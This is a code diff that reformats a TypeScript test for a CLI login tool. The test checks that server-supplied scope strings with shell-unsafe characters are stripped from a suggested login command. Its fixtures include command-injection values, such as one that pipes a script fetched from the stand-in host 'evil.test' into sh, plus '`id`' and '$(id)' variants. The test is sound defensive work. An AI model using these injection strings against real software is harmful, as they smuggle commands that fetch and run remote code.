@@ -10,16 +10,20 @@ function missingScope(requiredScope: string): EvergrantClientError {
   })
 }
 
-test('failure: the suggested command never contains unsafe characters from a server', { tags: ['C-22'] }, () => {
-  const url = 'https://mcp.test/mcp'
-  expect(describeFailure(missingScope('mcp:read files.write'), url).command).toBe(
-    `evergrant login ${url} --scope "mcp:read files.write"`,
-  )
-  for (const scope of ['$(curl${IFS}evil.test|sh)', '`id`', "a';id;'", '%PATH%', 'a!b']) {
-    expect(describeFailure(missingScope(scope), url).command).toBe(`evergrant login ${url}`)
-  }
-  expect(describeFailure(missingScope('mcp:read'), `${url}?a=1&b=$(id)`).command).toBeUndefined()
-})
+test(
+  'failure: the suggested command never contains unsafe characters from a server',
+  { tags: ['C-22'] },
+  () => {
+    const url = 'https://mcp.test/mcp'
+    expect(describeFailure(missingScope('mcp:read files.write'), url).command).toBe(
+      `evergrant login ${url} --scope "mcp:read files.write"`,
+    )
+    for (const scope of ['$(curl${IFS}evil.test|sh)', '`id`', "a';id;'", '%PATH%', 'a!b']) {
+      expect(describeFailure(missingScope(scope), url).command).toBe(`evergrant login ${url}`)
+    }
+    expect(describeFailure(missingScope('mcp:read'), `${url}?a=1&b=$(id)`).command).toBeUndefined()
+  },
+)
 
 test('rounds: reports the error that ended the calls, not an earlier one', async () => {
   const transient = new Error('cannot be reached')
